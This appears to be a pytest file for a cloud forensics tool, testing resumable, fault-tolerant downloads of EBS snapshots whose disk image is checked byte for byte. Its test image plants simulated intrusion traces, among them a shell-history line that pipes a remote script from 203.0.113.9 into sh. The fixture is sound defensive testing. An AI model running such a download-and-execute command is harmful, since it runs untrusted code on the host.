"""The EBS direct-API download against a real moto server, with a misbehaving proxy between.

The snapshot holds a real ext4 file system (a shell history, an authorized_keys), written
block by block through PutSnapshotBlock as AWS's own tools do; the downloaded image must
be that file system byte for byte, whatever the network and the API did on the way.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import random
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from cloudir.aws import Aws, AwsOptions
from cloudir.capture.ebs_download import (
    Block,
    Checkpoint,
    DownloadResult,
    Listing,
    _CheckpointSaver,
    download_snapshot,
)
from cloudir.case import Case
from cloudir.errors import CloudError, EvidenceError
from tests.conftest import REPO, boto_client, cloudir, custody
from tests.fault_proxy import FaultProxy

GIB = 1 << 30
MOTO_BLOCK = 512  # what moto's ListSnapshotBlocks reports, whatever was written
AWS_BLOCK = 512 * 1024


@pytest.fixture(scope="module")
def ext4_image(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """An 8 MiB ext4 file system holding what a responder looks for first."""
    base = tmp_path_factory.mktemp("ext4")
    root = base / "root"
    (root / "home/alice/.ssh").mkdir(parents=True)
    (root / "var/log").mkdir(parents=True)
    (root / "home/alice/.bash_history").write_text(
        "curl -s http://203.0.113.9/x.sh | sh\nhistory -c\n"
    )
    (root / "home/alice/.ssh/authorized_keys").write_text("ssh-ed25519 AAAAC3Nza attacker@c2\n")
    (root / "var/log/auth.log").write_text("Accepted publickey for alice from 203.0.113.9\n")
    (root / "var/log/blob.bin").write_bytes(random.Random(5).randbytes(40_000))
    image = base / "img"
    subprocess.run(["mkfs.ext4", "-q", "-F", "-d", str(root), str(image), "8M"], check=True)
    return image.read_bytes()


@pytest.fixture(scope="module")
def expected_sha(ext4_image: bytes) -> str:
    """The 1 GiB volume: the file system, then zeros."""
    digest = hashlib.sha256(ext4_image)
    zeros = bytes(16 << 20)
    left = GIB - len(ext4_image)
    while left:
        digest.update(zeros[: min(left, len(zeros))])
        left -= min(left, len(zeros))
    return digest.hexdigest()


def put_snapshot(moto_url: str, image: bytes, block_size: int = MOTO_BLOCK) -> tuple[str, int]:
    """A completed 1 GiB snapshot holding the image's non-zero blocks, put in random order."""
    ebs = boto_client(moto_url, "ebs")
    snapshot = ebs.start_snapshot(VolumeSize=1)["SnapshotId"]
    indices = [
        i // block_size for i in range(0, len(image), block_size) if any(image[i : i + block_size])
    ]
    random.Random(7).shuffle(indices)

    def put(index: int) -> None:
        data = image[index * block_size : (index + 1) * block_size]
        ebs.put_snapshot_block(
            SnapshotId=snapshot,
            BlockIndex=index,
            BlockData=data,
            DataLength=len(data),
            Checksum=base64.b64encode(hashlib.sha256(data).digest()).decode(),
            ChecksumAlgorithm="SHA256",
        )

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(put, indices))
    ebs.complete_snapshot(SnapshotId=snapshot, ChangedBlocksCount=len(indices))
    return snapshot, len(indices)


def aws_at(url: str) -> Aws:
    return Aws(AwsOptions(endpoint_url=url, region="us-east-1"))


def image_actions(case_dir: Path) -> list[dict[str, Any]]:
    return [e for e in custody(case_dir) if e["action"] == "capture-ebs-image"]


@pytest.fixture
def proxy(moto_url: str) -> Iterator[FaultProxy]:
    with FaultProxy(moto_url) as running:
        yield running


@pytest.fixture(scope="module")
def snapshot(moto_url: str, ext4_image: bytes) -> tuple[str, int]:
    """One snapshot for every test that only reads it: the id and its block count."""
    return put_snapshot(moto_url, ext4_image)


@pytest.fixture(scope="module")
def downloaded(
    moto_url: str, snapshot: tuple[str, int], tmp_path_factory: pytest.TempPathFactory
) -> tuple[Path, str, DownloadResult]:
    snapshot_id = snapshot[0]
    case_dir = tmp_path_factory.mktemp("dl") / "case"
    case = Case.create(case_dir)
    result = download_snapshot(case, aws_at(moto_url), snapshot_id, f"ebs-{snapshot_id}", workers=8)
    return case_dir, snapshot_id, result


def test_download_is_the_ext4_image_sparse_hashed_and_in_custody(
    downloaded: tuple[Path, str, DownloadResult], ext4_image: bytes, expected_sha: str
) -> None:
    case_dir, snapshot, result = downloaded
    path = case_dir / "evidence" / f"ebs-{snapshot}" / "image.raw"
    assert result.path == path
    with open(path, "rb") as fh:
        assert fh.read(len(ext4_image)) == ext4_image
    # the whole-image hash is that of the file system followed by zeros to 1 GiB
    assert result.sha256 == expected_sha
    stat = path.stat()
    assert stat.st_size == GIB == result.volume_bytes
    assert stat.st_blocks * 512 < 32 << 20  # sparse: holes are not stored
    assert stat.st_mode & 0o777 == 0o444
    assert result.block_size == MOTO_BLOCK  # the listing's, not an assumed 512 KiB
    assert result.blocks_fetched == result.blocks_listed > 50
    assert result.blocks_resumed == 0
    assert sorted(p.name for p in path.parent.iterdir()) == ["image.raw"]
    [entry] = image_actions(case_dir)
    assert entry["files"] == [
        {"path": f"evidence/ebs-{snapshot}/image.raw", "sha256": expected_sha, "bytes": GIB}
    ]
    assert entry["source"]["snapshot_id"] == snapshot
    assert entry["source"]["api"] == "ebs:GetSnapshotBlock"
    verify = cloudir("verify", "--case", str(case_dir), "--json")
    assert verify.code == 0, verify.stderr
    assert verify.json()["ok"]


def test_a_second_run_returns_the_held_image_without_fetching(
    downloaded: tuple[Path, str, DownloadResult], proxy: FaultProxy
) -> None:
    case_dir, snapshot_id, first = downloaded
    again = download_snapshot(
        Case.open(case_dir), aws_at(proxy.url), snapshot_id, f"ebs-{snapshot_id}"
    )
    assert again.sha256 == first.sha256
    assert again.blocks_fetched == 0
    assert proxy.list_requests == 0 and proxy.block_requests == []
    assert len(image_actions(case_dir)) == 1


def test_an_interrupted_download_resumes_from_its_checkpoint(
    snapshot: tuple[str, int], expected_sha: str, tmp_path: Path, proxy: FaultProxy
) -> None:
    snapshot_id, listed = snapshot
    case_dir = tmp_path / "case"
    Case.create(case_dir)
    evidence_id = f"ebs-{snapshot_id}"
    checkpoint = case_dir / "evidence" / evidence_id / "image.raw.checkpoint"
    proxy.block_delay = 0.03
    child = subprocess.Popen(
        [sys.executable, "-c", KILLED_CHILD, str(case_dir), proxy.url, snapshot_id, evidence_id],
        cwd=REPO,
    )
    try:
        deadline = time.monotonic() + 20
        while _verified(checkpoint) < 20:
            assert child.poll() is None, "the download finished before it could be killed"
            assert time.monotonic() < deadline, "no checkpoint appeared"
            time.sleep(0.02)
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait()
    proxy.block_delay = 0
    result = download_snapshot(Case.open(case_dir), aws_at(proxy.url), snapshot_id, evidence_id)
    assert result.sha256 == expected_sha
    assert result.blocks_listed == listed
    assert result.blocks_resumed >= 20
    assert result.blocks_fetched == listed - result.blocks_resumed < listed
    assert not checkpoint.exists()
    assert len(image_actions(case_dir)) == 1


KILLED_CHILD = """
import sys
from pathlib import Path
from cloudir.capture import ebs_download
from cloudir.aws import Aws, AwsOptions
from cloudir.case import Case
ebs_download.CHECKPOINT_EVERY_BLOCKS = 4
case = Case.open(Path(sys.argv[1]))
aws = Aws(AwsOptions(region="us-east-1", endpoint_url=sys.argv[2]))
ebs_download.download_snapshot(case, aws, sys.argv[3], sys.argv[4], workers=1)
"""


def _verified(checkpoint: Path) -> int:
    try:
        return int(json.loads(checkpoint.read_text())["verified_count"])
    except (OSError, ValueError, KeyError):
        return 0


def test_ctrl_c_keeps_the_blocks_already_written_for_the_next_run(
    snapshot: tuple[str, int], expected_sha: str, tmp_path: Path, proxy: FaultProxy
) -> None:
    snapshot_id, listed = snapshot
    case_dir = tmp_path / "case"

    def interrupt(done: int, total: int) -> None:
        if done >= 30 * 512:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        download_snapshot(
            Case.create(case_dir), aws_at(proxy.url), snapshot_id, "ebs-c", progress=interrupt
        )
    assert _verified(case_dir / "evidence" / "ebs-c" / "image.raw.checkpoint") >= 30
    assert image_actions(case_dir) == []
    seen: list[tuple[int, int]] = []
    result = download_snapshot(
        Case.open(case_dir),
        aws_at(proxy.url),
        snapshot_id,
        "ebs-c",
        progress=lambda done, total: seen.append((done, total)),
    )
    assert result.blocks_resumed >= 30 and result.sha256 == expected_sha
    assert seen[0] == (result.blocks_resumed * 512, listed * 512)
    assert seen[-1] == (listed * 512, listed * 512)


@pytest.mark.parametrize(
    ("faults", "list_page"),
    [
        pytest.param([("corrupt", "block", 1)], None, id="corrupt-once"),
        pytest.param([("drop", "block", 1)], None, id="dropped-mid-block"),
        pytest.param(
            [("throttle", "block", 3), ("unavailable", "block", 2), ("throttle", "list", 1)],
            10,
            id="throttled-503-paged",
        ),
    ],
)
def test_transient_faults_are_retried_and_the_image_is_identical(
    faults: list[tuple[str, str, int]],
    list_page: int | None,
    snapshot: tuple[str, int],
    expected_sha: str,
    tmp_path: Path,
    proxy: FaultProxy,
) -> None:
    snapshot_id, listed = snapshot
    proxy.list_page = list_page
    for kind, on, times in faults:
        proxy.add(kind, on=on, times=times)
    case = Case.create(tmp_path / "case")
    result = download_snapshot(case, aws_at(proxy.url), snapshot_id, "ebs-x", workers=4)
    assert result.sha256 == expected_sha
    assert result.blocks_listed == listed
    retried = sum(times for _, on, times in faults if on == "block")
    assert len(proxy.block_requests) == listed + retried
    assert [f.times for f in proxy.faults] == [0] * len(faults)


def test_a_block_that_never_matches_stops_the_download_and_a_rerun_resumes(
    snapshot: tuple[str, int],
    ext4_image: bytes,
    expected_sha: str,
    tmp_path: Path,
    proxy: FaultProxy,
) -> None:
    snapshot_id, listed = snapshot
    case_dir = tmp_path / "case"
    item = case_dir / "evidence" / "ebs-bad"
    bad = max(
        i // MOTO_BLOCK
        for i in range(0, len(ext4_image), MOTO_BLOCK)
        if any(ext4_image[i : i + MOTO_BLOCK])
    )
    proxy.add("corrupt", index=bad, times=-1)
    with pytest.raises(EvidenceError) as caught:
        download_snapshot(
            Case.create(case_dir), aws_at(proxy.url), snapshot_id, "ebs-bad", max_attempts=3
        )
    message = str(caught.value)
    assert f"{snapshot_id} block {bad}" in message and "expected" in message and "got" in message
    assert caught.value.exit_code == 3
    assert proxy.block_requests.count(bad) == 3
    assert image_actions(case_dir) == []
    assert not (item / "image.raw").exists()
    assert (item / "image.raw.partial").exists()
    assert 0 < _verified(item / "image.raw.checkpoint") < listed

    proxy.faults.clear()
    result = download_snapshot(Case.open(case_dir), aws_at(proxy.url), snapshot_id, "ebs-bad")
    assert result.sha256 == expected_sha
    assert result.blocks_resumed > 0 and result.blocks_fetched < listed
    assert len(image_actions(case_dir)) == 1


def test_a_checkpoint_for_another_snapshot_is_discarded(
    snapshot: tuple[str, int], expected_sha: str, tmp_path: Path, proxy: FaultProxy
) -> None:
    snapshot_id, listed = snapshot
    case_dir = tmp_path / "case"
    proxy.add("corrupt", times=-1)
    with pytest.raises(EvidenceError):
        download_snapshot(
            Case.create(case_dir), aws_at(proxy.url), snapshot_id, "ebs-y", max_attempts=1
        )
    checkpoint = case_dir / "evidence" / "ebs-y" / "image.raw.checkpoint"
    saved = json.loads(checkpoint.read_text())
    checkpoint.write_text(json.dumps(dict(saved, snapshot_id="snap-0123456789abcdef0")))
    proxy.faults.clear()
    said: list[str] = []
    result = download_snapshot(
        Case.open(case_dir), aws_at(proxy.url), snapshot_id, "ebs-y", report=said.append
    )
    assert any("discarded" in line for line in said)
    assert result.blocks_resumed == 0 and result.blocks_fetched == listed
    assert result.sha256 == expected_sha


def test_throttling_past_max_attempts_is_a_cloud_error_after_our_retries_only(
    snapshot: tuple[str, int], tmp_path: Path, proxy: FaultProxy
) -> None:
    snapshot_id = snapshot[0]
    proxy.add("throttle", times=-1)
    with pytest.raises(CloudError) as caught:
        download_snapshot(
            Case.create(tmp_path / "case"),
            aws_at(proxy.url),
            snapshot_id,
            "ebs-t",
            workers=1,
            max_attempts=2,
        )
    assert "ThrottlingException" in str(caught.value) and "after 2 attempts" in str(caught.value)
    assert len(proxy.block_requests) == 2  # botocore itself retried nothing


@pytest.mark.parametrize(
    ("kind", "on", "named"),
    [
        ("deny", "list", "ebs:ListSnapshotBlocks"),
        ("deny", "block", "ebs:GetSnapshotBlock"),
        ("kms-deny", "block", "kms:Decrypt"),
    ],
)
def test_access_denied_names_the_missing_permission(
    kind: str,
    on: str,
    named: str,
    snapshot: tuple[str, int],
    tmp_path: Path,
    proxy: FaultProxy,
) -> None:
    snapshot_id = snapshot[0]
    proxy.add(kind, on=on, times=-1)
    case_dir = tmp_path / "case"
    with pytest.raises(CloudError) as caught:
        download_snapshot(Case.create(case_dir), aws_at(proxy.url), snapshot_id, "ebs-d")
    message = str(caught.value)
    assert named in message and "AccessDenied" in message and "\n" not in message
    assert caught.value.exit_code == 4
    assert image_actions(case_dir) == []


def test_aws_block_size_places_each_block_at_its_offset(
    moto_url: str, ext4_image: bytes, expected_sha: str, tmp_path: Path, proxy: FaultProxy
) -> None:
    """Real AWS lists BlockSize 524288; moto lists 512 whatever was written, so the
    proxy answers as AWS would for a snapshot written in 512 KiB blocks."""
    snapshot, listed = put_snapshot(moto_url, ext4_image, block_size=AWS_BLOCK)
    proxy.block_size = AWS_BLOCK
    result = download_snapshot(Case.create(tmp_path / "case"), aws_at(proxy.url), snapshot, "e")
    assert (result.block_size, result.blocks_listed) == (AWS_BLOCK, listed)
    assert result.sha256 == expected_sha


def test_a_block_longer_than_the_listed_block_size_is_refused(
    moto_url: str, ext4_image: bytes, tmp_path: Path
) -> None:
    """moto's own answer for 512 KiB blocks (BlockSize 512): laying them out would
    overlap them, so the download says so instead of writing a wrong image."""
    snapshot, _ = put_snapshot(moto_url, ext4_image, block_size=AWS_BLOCK)
    with pytest.raises(EvidenceError, match="524288 bytes, but the snapshot's BlockSize is 512"):
        download_snapshot(Case.create(tmp_path / "case"), aws_at(moto_url), snapshot, "e")


def test_a_background_checkpoint_names_only_blocks_marked_before_its_fsync(
    tmp_path: Path,
) -> None:
    """The saver copies the bitmap before it fsyncs; blocks marked while it runs wait for
    the next save, so no checkpoint claims a block its fsync may not have covered."""
    listing = Listing(64 * AWS_BLOCK, AWS_BLOCK, [Block(i, f"t{i}") for i in range(64)])
    image = tmp_path / "image.raw.partial"
    fd = os.open(image, os.O_RDWR | os.O_CREAT, 0o644)
    try:
        checkpoint = Checkpoint(tmp_path / "image.raw.checkpoint", "snap-1", listing)
        saver = _CheckpointSaver(fd, checkpoint)
        for index in range(10):
            checkpoint.mark(index)
        saver.start()
        for index in range(10, 20):
            checkpoint.mark(index)
        assert saver._thread is not None
        saver._thread.join()
        assert _verified(checkpoint.path) == 10
        saver.finish()
        assert _verified(checkpoint.path) == 20
    finally:
        os.close(fd)


def test_a_failed_background_save_stops_the_download_and_writes_no_later_checkpoint(
    tmp_path: Path,
) -> None:
    """fsync reports a writeback error once: after a failed save no checkpoint may follow."""
    listing = Listing(8 * AWS_BLOCK, AWS_BLOCK, [Block(i, f"t{i}") for i in range(8)])
    checkpoint = Checkpoint(tmp_path / "image.raw.checkpoint", "snap-1", listing)
    read_end, write_end = os.pipe()  # fsync on a pipe fails (EINVAL)
    try:
        saver = _CheckpointSaver(read_end, checkpoint)
        checkpoint.mark(0)
        saver.start()
        with pytest.raises(OSError):
            saver.finish()
        saver.finish()  # raised once; the pool's finally calls it again and must not save
    finally:
        os.close(read_end)
        os.close(write_end)
    assert not checkpoint.path.exists()
